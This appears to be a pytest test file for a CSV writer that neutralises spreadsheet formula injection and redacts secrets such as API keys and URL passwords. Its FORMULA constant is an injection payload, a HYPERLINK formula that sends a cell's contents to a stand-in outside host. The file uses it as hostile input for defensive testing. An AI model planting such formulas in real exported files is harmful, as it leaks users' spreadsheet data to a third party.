"""No program takes a cell for a formula, whatever it thinks a cell is; and what was written can be read back."""

import csv
import io
import re
from datetime import UTC, datetime

import pytest

from durableflows.core.cells import LONGEST, cell, lines

BEGINNINGS = ("=", "+", "-", "@", "|", "%", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212")
FORMULA = """=HYPERLINK("https://elsewhere.example?"&A1,"x")"""


@pytest.mark.parametrize("sign", BEGINNINGS)
@pytest.mark.parametrize("before", ["", " ", "\t", "\n", '"', "' ", "a;", "a, ", "a\t", 'a\n"', "\u00a0", "a; \u3000"])
def test_nothing_that_could_begin_a_cell_begins_a_formula(sign: str, before: str) -> None:
    """R28."""
    shown = cell(f"{before}{sign}1+1")

    starts = re.findall(r"(?:^|[,;\t|\n])[\s\"`]*(.)", shown)
    assert not [one for one in starts if one in BEGINNINGS]
    assert "'" in shown
    assert shown.replace("'", "") == f"{before}{sign}1+1".replace("'", "")


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_separator_of_any_country_begins_a_formula(separator: str) -> None:
    """A program that parts cells by another sign than the file's own finds no formula either."""
    written = "".join(
        lines(["title", "who"], [[f"fine{separator}{FORMULA}", f'"{separator} @SUM(1)'], [FORMULA, "+1"]])
    )

    for row in csv.reader(io.StringIO(written), delimiter=separator):
        assert not [one for one in row if one.strip().strip("\"'` ").startswith(BEGINNINGS) and "'" not in one]


def test_a_control_character_before_the_sign_does_not_hide_it() -> None:
    assert cell("\x00=1") == "⟦U+0000⟧=1"
    assert cell("\u200b=1") == "⟦U+200B⟧=1"
    assert cell("\r=1").startswith("⟦U+000D⟧")


def test_ordinary_text_stays_as_it_is() -> None:
    for text in ("Ada Brown", "5-10 pieces", "a+b", "me@example.com", "USD 600.00", "10 %", "Zoë; Jürgen"):
        assert cell(text) == text


def test_values_are_written_for_people_and_programs() -> None:
    assert cell(None) == ""
    assert cell(True) == "yes"
    assert cell(datetime(2030, 1, 31, 12, tzinfo=UTC)) == "2030-01-31T12:00:00+00:00"
    assert cell({"b": 1, "a": "=1"}) == '{"a": "=1", "b": 1}'
    assert cell({"api_key": "sk_live_12345678901234567890"}) == '{"api_key": "[redacted]"}'
    assert len(cell("x" * 100_000)) < LONGEST + 40


def test_a_row_is_one_row_whatever_is_in_it() -> None:
    values = ['a "quoted" one', "two\nlines", "semi;colon", "comma, here", "\u202e", "tab\there"]

    written = list(lines(["a", "b", "c", "d", "e", "f"], [values]))

    assert len(written) == 2
    head, row = csv.reader(io.StringIO("".join(written)))
    assert head == ["a", "b", "c", "d", "e", "f"]
    assert row == ['a "quoted" one', "two\nlines", "semi;colon", "comma, here", "⟦U+202E⟧", "tab\there"]


def test_lines_are_made_one_by_one() -> None:
    def rows():
        yield ["first"]
        raise AssertionError("read too early")

    made = lines(["head"], rows())

    assert next(made) == '"head"\r\n'
    assert next(made) == '"first"\r\n'


@pytest.mark.parametrize("text", ["\u202e" * 4_100 + FORMULA, "=," * 15_000, "x" * 29_999 + "\u202e" * 2])
def test_no_cell_is_longer_than_spreadsheets_take_whatever_its_marks_make_of_it(text: str) -> None:
    """What they cut off themselves begins a row of its own, and might be a formula there."""
    shown = cell(text)

    assert len(shown) < LONGEST + 40
    assert f"(cut: {len(text)} letters)" in shown


def test_a_text_shows_no_secret_either() -> None:
    """P14: a title is made of facts."""
    assert cell("Pay by https://ada:hunter22@bank.example") == "Pay by https://[redacted]@bank.example"
